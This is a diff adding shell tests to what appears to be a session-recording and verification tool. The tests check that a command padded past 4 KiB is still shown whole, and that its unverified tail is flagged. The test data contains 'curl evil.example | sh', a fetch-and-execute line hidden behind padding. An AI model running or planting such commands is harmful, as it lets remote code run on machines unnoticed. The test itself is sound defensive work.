@@ -215,6 +215,24 @@ assert j["verification"]["status"] == "sealed" and j["verification"]["exit"] == 
 assert j["stored"]["in"] == 3 and j["hidden_input"]["bytes"] == 9 and j["resizes"] == 1
 assert j["notes"][0]["note"]["event"] == "transfer"
 PY
+# a command longer than the header holds (4096 bytes) is shown whole, from the note that
+# carries it: what follows 4 KiB of padding is not hidden from the investigator
+"$G" script k/signing.key longcmd.tgr session=$SID mode=command term= cols=0 rows=0 \
+	"command=echo $(head -c 5000 /dev/zero | tr '\0' a); curl evil.example | sh" <"$DATA/replay-session.txt" ||
+	tg_fail "make longcmd.tgr"
+expect 0 "$R" -c conf info longcmd.tgr
+grep -q "^command: *echo a*; curl evil.example | sh\$" out.txt ||
+	tg_fail "info: a long command not shown whole: $(grep -a '^command' out.txt | cut -c1-40)...$(grep -a '^command' out.txt | tail -c 60)"
+grep -q "^command shown: *5029 of 5029 bytes\$" out.txt || tg_fail "info: $(grep -a '^command shown' out.txt)"
+# ... from a note past the verified part, it is a claim, said apart
+printf 'out 1000 x\nflush\ncrash\n' |
+	"$G" script k/signing.key longcut.tgr session=$SID mode=command term= cols=0 rows=0 \
+		"command=echo $(head -c 5000 /dev/zero | tr '\0' a); curl evil.example | sh" ||
+	tg_fail "make longcut.tgr"
+expect 2 "$R" -c conf info longcut.tgr
+grep -q "^command shown: *4096 of 5029 bytes; the rest is in a note past the verified part" out.txt &&
+	grep -q "^UNVERIFIED: *echo a*; curl evil.example | sh\$" out.txt &&
+	! grep -q "^command: .*curl" out.txt || tg_fail "info: an unverified command note: $(grep -a '^command shown' out.txt)"
 # a file name need not be UTF-8 (Latin-1 from a Windows share), and JSON must be: U+FFFD
 cp good.tgr "$(printf 'caf\351.tgr')"
 expect 0 "$R" -c conf info --json "$(printf 'caf\351.tgr')"
